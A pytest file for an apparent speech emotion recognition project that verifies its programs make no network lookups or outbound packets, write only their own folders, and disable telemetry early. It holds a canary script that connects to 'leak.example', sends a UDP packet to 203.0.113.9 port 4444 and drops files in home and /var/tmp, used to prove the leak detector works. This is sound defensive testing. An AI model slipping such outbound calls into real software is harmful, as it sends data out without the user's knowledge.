"""The program contacts no other machine and writes only its own files, observed from outside the process."""

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Sequence
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import pytest

from tests.support.closed_network import ELSEWHERE, ROOT, run_closed, why_not
from tests.support.example import EXAMPLE_EMOTION
from tests.support.training_corpus import write_corpus
from webui.privacy import SWITCHES

OWN = ("outputs/", "report/", "trained/", "printed/")  # folders that the programs may write to
LIMIT_S = 250
WAIT_S = 12.0  # the longest time between onnxruntime's first session and its first telemetry report
UNCHANGED = "a user's file"
TRAIN = """
import sys
from dataclasses import replace
from pathlib import Path
from tests.support.training_corpus import OPTIONS, SMALL
from training.cache import build_cache
from training.data import read_manifest
from training.tasks import member_pair, train_members
from training.splits import hold_out

if __name__ == "__main__":
    data, out = Path(sys.argv[1]), Path(sys.argv[2])
    clips = read_manifest(data)
    cache = build_cache(data, clips, out / "cache")
    options = replace(OPTIONS, epochs=1, clips_per_epoch=8, variants=1)
    pair = member_pair(
        out / "run", cache_dir=cache.directory, split=hold_out(clips, ["a_2"]), config=SMALL, options=options
    )
    train_members(pair[:1], processes=2)
"""
LEAK = """
import socket
from pathlib import Path
try:
    socket.create_connection(("leak.example", 443), 5)
except OSError:
    pass
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("203.0.113.9", 4444))
for place in (Path.home(), Path("/var/tmp")):
    (place / "left.txt").write_text("x")
"""


def environment(folder: Path) -> dict[str, str]:
    """Environment of a user's terminal, without variables that disable telemetry by themselves, such as CI."""
    kept = {name: os.environ[name] for name in ("PATH", "LD_LIBRARY_PATH") if name in os.environ}
    return kept | {
        "HOME": str(folder / "home"),
        "TMPDIR": str(folder / "tmp"),
        "LANG": "C.UTF-8",
        "PYTHONDONTWRITEBYTECODE": "1",
        "PYTHONUNBUFFERED": "1",
        "SPEECH_EMOTION_OUTPUTS_DIR": str(folder / "outputs"),
        "SPEECH_EMOTION_AUTO_DOWNLOAD": "false",
    }


def run_programs(folder: Path) -> None:
    """Runs in the namespace: a server, and the other programs at the same time."""
    project, data = folder / "project", folder / "data"
    example = project / "examples" / "example_synthetic.wav"
    labels = folder / "labels.csv"
    compare = ("compare", "--models", "builtin", "--data", labels, "--out", folder / "report", "--rounds", "1")
    programs: dict[str, Sequence[object]] = {
        "recognize": ("app.py", "recognize", example, "--granularity", "segment", "--embedding"),
        "compare": ("app.py", *compare),
        "training": (folder / "train.py", data, folder / "trained"),
    }

    def run(name: str) -> None:
        with (folder / "printed" / f"{name}.txt").open("wb") as printed:
            subprocess.run(
                [sys.executable, *map(str, programs[name])], cwd=project, stdin=subprocess.DEVNULL, stdout=printed,
                stderr=printed, env=environment(folder) | {"PYTHONPATH": str(project)}, timeout=LIMIT_S, check=True,
            )  # fmt: skip

    with (folder / "printed" / "serve.txt").open("wb") as printed:
        server = subprocess.Popen(
            [sys.executable, "app.py", "serve"], cwd=project, env=environment(folder), stdout=subprocess.PIPE,
            stderr=printed, text=True,
        )  # fmt: skip
        try:
            assert server.stdout is not None
            url = server.stdout.readline().split()[-1]
            use(url, example)
            used_at = time.monotonic()
            with ThreadPoolExecutor(2) as pool:
                list(pool.map(run, programs))
            time.sleep(max(0.0, WAIT_S - (time.monotonic() - used_at)))
        finally:
            server.send_signal(signal.SIGTERM)
            server.communicate(timeout=120)
    assert server.returncode == 0


def use(url: str, example: Path) -> None:
    """Opens the page, recognizes a recording there, and requests segments from the API."""
    with httpx.Client(base_url=url, timeout=LIMIT_S) as client:
        assert client.get("/").status_code == 200
        (sent,) = client.post("/gradio_api/upload", files={"files": ("a.wav", example.read_bytes())}).json()
        file = {"path": sent, "orig_name": "a.wav", "meta": {"_type": "gradio.FileData"}}
        event = client.post("/gradio_api/call/recognize", json={"data": [file, "segment", True]}).json()["event_id"]
        assert "event: complete" in client.get(f"/gradio_api/call/recognize/{event}").text
        answer = client.post(
            "/api/v1/recognize", files={"audio": example.read_bytes()}, data={"granularity": "segment"}
        )
        assert answer.json()["segments"]


def leak(folder: Path) -> None:
    """Does everything that the test must detect."""
    subprocess.run([sys.executable, "-c", LEAK], env=environment(folder), check=True)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A project like a fresh clone, a home and a temporary folder, which are examined afterwards."""
    if reason := why_not():
        pytest.skip(reason)
    for name in ("home", "tmp", "hidden", "printed"):
        (tmp_path / name).mkdir()
    project = tmp_path / "project"
    project.mkdir()
    ignored = shutil.ignore_patterns("__pycache__", "outputs", "runs")
    for name in ("webui", "training", "tests", "examples", "models/builtin"):
        shutil.copytree(ROOT / name, project / name, ignore=ignored)
    shutil.copy(ROOT / "app.py", project)
    return tmp_path


def written(folder: Path) -> set[str]:
    return {path.relative_to(folder).as_posix() for path in folder.rglob("*") if not path.is_dir() or path.is_symlink()}


def test_no_lookups_no_packets_no_other_files(folder: Path) -> None:
    write_corpus(folder / "data", takes=1)
    (folder / "train.py").write_text(TRAIN, "utf-8")
    example = folder / "project" / "examples" / "example_synthetic.wav"
    (folder / "labels.csv").write_text(f"path,label\n{example},{EXAMPLE_EMOTION}\n", "utf-8")
    (folder / "mine.txt").write_text(UNCHANGED)
    (folder / "tmp" / ".ses").symlink_to(folder / "mine.txt")  # what onnxruntime would overwrite
    before = written(folder)
    seen = run_closed(folder, f"{__name__}:run_programs")
    new = written(folder) - before - {"seen.json", "resolv.conf", "nsswitch.conf"}
    found = {
        "names looked up": seen.names,
        "packets to other machines": seen.addresses,
        "files elsewhere": {name for name in new if not name.startswith(OWN)},
        "a file changed through a link": {(folder / "mine.txt").read_text()} - {UNCHANGED},
    }
    assert not any(found.values()), found
    for name in ("outputs", "report", "trained"):
        assert any(path.startswith(f"{name}/") for path in new), name


def test_lookups_packets_and_files_are_detected(folder: Path) -> None:
    seen = run_closed(folder, f"{__name__}:leak")
    assert seen.names == {"leak.example"}
    assert f"tcp {ELSEWHERE} port 443" in seen.addresses
    assert "udp 203.0.113.9 port 4444" in seen.addresses
    new = {name for name in written(folder) if name.endswith("left.txt")}
    assert new == {"home/left.txt", "hidden/var/tmp/left.txt"}


@pytest.mark.parametrize(
    "entry",
    ["webui.cli", "webui.engine.hub.client_process", "training", "benchmarks"],
)
def test_every_entry_point_disables_telemetry_before_importing_libraries(entry: str) -> None:
    code = (
        "import json, os, sys\n"
        "from importlib import import_module\n"
        "def watch(event, given):\n"
        "    if event == 'import' and given[0] in ('onnxruntime', 'gradio', 'huggingface_hub', 'transformers'):\n"
        "        early.append(given[0]) if 'webui.privacy' not in sys.modules else None\n"
        "early = []\n"
        "sys.addaudithook(watch)\n"
        f"import_module({entry!r})\n"
        f"print(json.dumps([early, {{name: os.environ.get(name) for name in {list(SWITCHES)!r}}}]))\n"
    )
    enabled = dict.fromkeys(SWITCHES, "True") | {"ORT_DISABLE_TELEMETRY": "0", "DO_NOT_TRACK": ""}
    done = subprocess.run(
        [sys.executable, "-c", code], cwd=ROOT, env=os.environ | enabled, capture_output=True, text=True,
        check=True,
    )  # fmt: skip
    assert json.loads(done.stdout) == [[], SWITCHES]
